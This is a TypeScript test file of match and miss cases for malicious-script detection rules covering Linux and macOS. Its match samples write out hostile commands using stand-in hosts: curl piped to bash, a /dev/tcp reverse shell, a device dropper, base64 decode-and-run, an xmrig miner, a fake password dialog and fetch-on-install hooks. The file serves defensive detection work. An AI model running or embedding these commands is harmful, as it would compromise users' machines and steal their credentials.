import { t, type RuleCases } from './case';

const fetchRun = t('cu~rl -fsSL https://x.example/a | ba~sh');
const plist = (argument: string): string =>
  `<plist><dict><key>ProgramArguments</key><array><string>${argument}</string></array><key>RunAtLoad</key><true/></dict></plist>`;

/** Scripts and shortcuts of Linux and macOS. */
export const unix: RuleCases = {
  Shell_Download_Piped_To_Shell: {
    match: ['install.sh', `#!/bin/sh\n${fetchRun}`],
    miss: ['install.sh', '#!/bin/sh\ncurl -o a.tar.gz https://example.com/a.tar.gz\ntar xf a.tar.gz'],
    alsoMiss: [['README.md', `Install with \`${fetchRun}\``]],
  },
  Shell_Opens_Remote_Shell: {
    match: ['a.sh', t('#!/bin/bash\nba~sh -i >& /dev/t~cp/198.51.100.7/443 0>&1')],
    miss: ['a.sh', '#!/bin/bash\n(echo > /dev/tcp/localhost/5432) && echo up; nc -z host 22'],
    alsoMiss: [['notes.md', t('`ba~sh -i >& /dev/t~cp/198.51.100.7/443 0>&1`')]],
  },
  Shell_Dropper_For_Devices: {
    match: [
      'a.sh',
      t('cd /tmp || cd /var/run || cd /mnt; w~get http://198.51.100.7/m.arm; chm~od 777 m.arm; ./m.arm; rm -rf m.arm'),
    ],
    miss: ['a.sh', '#!/bin/sh\ncd /tmp && wget https://example.com/app.deb\nchmod +x run\n./run\nrm -rf app.deb'],
  },
  Shell_Decodes_And_Runs: {
    match: ['a.sh', t('#!/bin/sh\necho QUJD | base~64 -d | ba~sh')],
    miss: ['a.sh', '#!/bin/sh\necho "$KEY" | base64 -d > key.pem'],
    more: [['a.py', t('ex~ec(base~64.b64de~code("QUJD"))')]],
    alsoMiss: [['b.py', 'import base64\nprint(base64.b64decode(data)); exec(compile(code, name, "exec"))']],
  },
  Shell_Installs_Miner: {
    match: ['a.sh', t('#!/bin/sh\nnohup ./xm~rig -o str~atum+tcp://pool.example:3333 --donate-level 1')],
    miss: ['a.sh', '#!/bin/sh\nnohup ./server --port 3333 &'],
  },
  Desktop_Entry_Runs_Command: {
    match: ['a.desktop', t('[Desktop Entry]\nType=Application\nExec=ba~sh -c "cu~rl https://x.example/a > /tmp/a"\n')],
    miss: ['a.desktop', '[Desktop Entry]\nType=Application\nExec=/usr/bin/editor --from https://example.com %F\n'],
  },
  Mac_Script_Asks_For_Password: {
    match: [
      'a.applescript',
      t('display dia~log "Password" default answer "" with hidden ans~wer\ndo shell script "ds~cl . auth~only x"'),
    ],
    miss: ['a.applescript', 'display dialog "Your name?" default answer ""'],
  },
  Mac_Command_Fetches_And_Runs: {
    match: ['a.command', `#!/bin/sh\n${fetchRun}`],
    miss: ['a.command', '#!/bin/sh\ncd "$(dirname "$0")"\nopen index.html'],
  },
  Mac_Agent_Runs_Command: {
    match: ['a.plist', plist(t('cu~rl https://x.example/a'))],
    miss: ['a.plist', plist('/Applications/App.app/Contents/MacOS/App')],
  },
  Package_Fetches_On_Install: {
    match: ['package.json', t('{"scripts":{"postinstall":"cu~rl https://x.example/a | sh"}}')],
    miss: ['package.json', '{"scripts":{"postinstall":"node scripts/build.js"}}'],
  },
};
